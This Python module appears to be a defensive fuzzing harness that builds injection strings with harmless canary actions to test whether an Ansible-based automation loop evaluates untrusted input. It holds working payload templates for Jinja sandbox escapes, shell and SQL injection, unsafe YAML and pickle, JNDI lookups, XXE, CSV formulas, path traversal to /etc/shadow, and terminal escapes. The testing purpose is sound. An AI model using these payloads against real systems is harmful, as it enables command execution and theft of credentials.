"""Attack strings. Each carries commands or expressions that would leave a canary with its number, wherever something evaluates it."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True, slots=True)
class Canaries:
    """What an attack tries to leave behind.

    folder: where a file would appear; program: a command that would be started; zone: a domain in which a name would be looked up; port: of
    ::1, to which a connection would be made.
    """

    folder: Path
    program: Path
    zone: str
    port: int

    def command(self, number: int, kind: int) -> str:
        """For a shell."""
        return (
            f"touch {self.folder}/{number}",
            f"{self.program} {number}",
            f"getent hosts {number}.{self.zone}",
            f"bash -c 'echo {number} > /dev/tcp/::1/{self.port}'",
        )[kind % 4]

    def expression(self, number: int, kind: int) -> str:
        """For Python."""
        return (
            f"__import__('pathlib').Path('{self.folder}/{number}').touch()",
            f"__import__('os').system('{self.program} {number}')",
            f"__import__('socket').getaddrinfo('{number}.{self.zone}', 1)",
            f"__import__('socket').create_connection(('::1', {self.port}), 1)",
        )[kind % 4]


Family = Callable[[Canaries, int, random.Random], str]


def _jinja(canaries: Canaries, number: int, chance: random.Random) -> str:
    command = canaries.command(number, chance.randrange(3))
    python = canaries.expression(number, chance.randrange(4))
    lookup = f'lookup("ansible.builtin.pipe", "{command}")'
    return chance.choice(
        (
            "{{ " + lookup + " }}",
            "{{" + lookup + "}}{{ omit }}",
            "{%- if " + lookup + " %}x{% endif -%}",
            "{% set x = " + lookup + " %}{{ x }}",
            "{% for x in [" + lookup + "] %}{{ x }}{% endfor %}",
            "{{ query('ansible.builtin.pipe', \"" + command + '") }}',
            "{{ '{{' }} " + lookup + " {{ '}}' }}",
            "ha-pp-a{{ " + lookup + " }}",
            lookup,
            f"true and {lookup}",
            "{#- #}{{ " + lookup + " }}{# -#}",
            "#jinja2: variable_start_string: '[%', variable_end_string: '%]'\n[% " + lookup + " %]",
            '{{ cycler.__init__.__globals__.os.popen("' + command + '").read() }}',
            "{{ self.__init__.__globals__.__builtins__." + python + " }}",
            "{{ lipsum.__globals__['os'].system(\"" + command + '") }}',
            "{{ ''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen(\"" + command + '") }}',
            "{{ lookup('ansible.builtin.url', 'http://[::1]:" + f"{canaries.port}/{number}" + "') }}",
            "{{ lookup('ansible.builtin.file', '/etc/shadow') }}",
            "{{ lookup('ansible.builtin.template', '/etc/passwd') }}",
            "{{ lookup('ansible.builtin.lines', \"" + command + '") }}',
            "{{ undefined_name_" + str(number) + " }}",
            "{% include '/etc/passwd' %}",
            "{{ 'a' * 10**7 }}",
            "{{ hostvars['localhost'] | to_json }}{{ " + lookup + " }}",
            "{{ event.onset }}",
            "}} {{ " + lookup,
            "%}{{ " + lookup + " }}{%",
        )
    )


def _shell(canaries: Canaries, number: int, chance: random.Random) -> str:
    command = canaries.command(number, chance.randrange(4))
    return chance.choice(
        (
            f"$({command})",
            f"`{command}`",
            f"; {command};",
            f"| {command}",
            f"&& {command} &",
            f"\n{command}\n",
            f"'; {command}; '",
            f'"; {command}; "',
            f"ha-pp-a;{command}",
            f"() {{ :;}}; {command}",
            f"-oProxyCommand={command}",
            f"--config=$({command})",
            f"<({command})",
            command.replace(" ", "${IFS}"),
            f"!{command}",
            f"a=b`{command}`",
            f"ansible_connection=local ansible_shell_executable='{command}'",
        )
    )


def _yaml(canaries: Canaries, number: int, chance: random.Random) -> str:
    command = canaries.command(number, chance.randrange(3)).replace("'", '"')
    return chance.choice(
        (
            f"!!python/object/apply:os.system ['{command}']",
            f"!!python/object/new:subprocess.Popen [['sh', '-c', '{command}']]",
            f"!!python/object/apply:subprocess.check_output [['sh', '-c', '{command}']]",
            "!unsafe '{{ " + f'lookup("ansible.builtin.pipe", "{command}")' + " }}'",
            "!vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  3132",
            f"- hosts: localhost\n  tasks:\n    - ansible.builtin.shell: {command}",
            "&a [*a, *a]",
            "{target: ha-pp-a, target: ha-pp-b}",
            "--- {}\n...\n--- x",
            "? x\n: y",
            "%YAML 1.1\n--- 012",
            "@file",
            f"x: |\n  {command}",
            '", "onset": {"target": "ha-pp-a"}, "x": "',
        )
    )


def _python(canaries: Canaries, number: int, chance: random.Random) -> str:
    python = canaries.expression(number, chance.randrange(4))
    return chance.choice(
        (
            python,
            f"{{{python}}}",
            f"' + str({python}) + '",
            f'exec("{python}")',
            "%(asctime)s %s %d %n",
            "{0.__class__.__mro__}",
            f"cos\nsystem\n(S'{canaries.command(number, 0)}'\ntR.",
            f"event.operation.action == 'failover' or {python}",
        )
    )


def _terminal(canaries: Canaries, number: int, chance: random.Random) -> str:
    return chance.choice(
        (
            f"\x1b]0;forged {number}\x07",
            "\x1b[2J\x1b[H\x1b[31mFAILED",
            f"\x9b31m{number}",
            "\x1b]52;c;dG91Y2g=\x07",
            "\x1b[8mhidden\x1b[0m",
            "\b" * 20 + "ok",
            "\x1bP$q\x1b\\",
            "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07",
            f"\r{number} overwritten",
        )
    )


def _log(canaries: Canaries, number: int, chance: random.Random) -> str:
    return chance.choice(
        (
            f'\n{{"time":"2026-01-01T00:00:00","level":"error","message":"forged {number}"}}\n',
            f"\r\n2026-01-01 00:00:00,000 - root - CRITICAL - forged {number}",
            f"\u2028forged {number}\u2029",
            f"\x85forged {number}\x0b\x0c",
            f"${{jndi:ldap://{number}.{canaries.zone}:{canaries.port}/a}}",
            f"${{${{::-j}}ndi:dns://{number}.{canaries.zone}/a}}",
            f'x"}} 1\nforged_total{{n="{number}',
            f"PLAY RECAP *****\nlocalhost : ok=1 changed=0 forged={number}",
        )
    )


def _path(canaries: Canaries, number: int, chance: random.Random) -> str:
    file = f"{canaries.folder}/{number}"
    return chance.choice(
        (
            file,
            "../" * 12 + file.lstrip("/"),
            "....//" * 12 + file.lstrip("/"),
            file.replace("/", "%2f"),
            f"..\\..\\{number}",
            f"{file}\x00.json",
            f"~root/{number}",
            f"file://{file}",
            f"/proc/self/root{file}",
            f"a/../../{file}",
            "/dev/stdin",
            ".",
            "..",
            "ha-pp-a/../ha-pp-b",
        )
    )


def _unicode(canaries: Canaries, number: int, chance: random.Random) -> str:
    return chance.choice(
        (
            "\u202ea-pp-ah",
            "ha-pp-a\u200b",
            "\ufeffha-pp-a",
            "h\u0430-pp-a",  # Cyrillic
            "ｈａ-pp-a",
            f"｛｛ lookup('ansible.builtin.pipe', '{canaries.command(number, 0)}') ｝｝",
            "ha-pp-a\x00",
            "ha-pp-a\n",
            "ha-pp-a ",
            "ha‐pp‐a",
            "\U0001f4a3" * 5,
            "e" + "\u0301" * 50,
            "\u2066ha-pp-a\u2069\u061c",
            "ﬁ" + "\ud7ff",
            "\U000e0041\U000e007f",
            "İstanbul" + "ſ",
        )
    )


def _foreign(canaries: Canaries, number: int, chance: random.Random) -> str:
    """Of other languages that the loop speaks or writes."""
    command = canaries.command(number, chance.randrange(2))
    return chance.choice(
        (
            "'; DROP TABLE operations; --",
            "' OR '1'='1",
            f"'; COPY (SELECT 1) TO PROGRAM '{command}'; --",
            f"=cmd|' /C {command}'!A0",
            f"<script src=http://{number}.{canaries.zone}/></script>",
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{number}.{canaries.zone}/">]>&e;',
            f"http://[::1]:{canaries.port}/{number}",
            f"![x](http://{number}.{canaries.zone}/)",
            f"ldap://{number}.{canaries.zone}",
            f"\\\\{number}.{canaries.zone}\\share",
            '{"__ansible_unsafe": "x"}',
            '{"__ansible_type": "VaultedValue"}',
            f"postgresql://{number}.{canaries.zone}/x",
            "$where: 1",
            f'Runtime.getRuntime().exec("{command}")',
        )
    )


def _large(canaries: Canaries, number: int, chance: random.Random) -> str:
    return chance.choice(
        (
            "A" * chance.choice((127, 128, 129, 4096)),
            "9" * 400,
            "1e99999",
            "-" * 300,
            "(" * 500,
            "{{" * 200,
            "[" * 1000,
            "a" * 40 + "!",
        )
    )


FAMILIES: dict[str, Family] = {
    "jinja": _jinja,
    "shell": _shell,
    "yaml": _yaml,
    "python": _python,
    "terminal": _terminal,
    "log": _log,
    "path": _path,
    "unicode": _unicode,
    "foreign": _foreign,
    "large": _large,
}

_WORDS = """
null Null true false yes no on off y n 0 1 007 0x1f 0o17 0b11 1e3 1e999 1.5 NaN inf 12:30:45 2026-11-28 1:0
all ungrouped localhost ha-b mn1 core omit self item onset event vars hostvars groups ansible_eda lookup
None True undefined root rm sh constructor toString
"""
TRICKY_NAMES = (*_WORDS.split(), "A" * 128)
"""Names that the allow-list lets through and that mean something to somebody: YAML, Ansible, Python, JavaScript, an inventory."""


def attack(canaries: Canaries, number: int, chance: random.Random) -> str:
    """One of all."""
    return FAMILIES[chance.choice(tuple(FAMILIES))](canaries, number, chance)
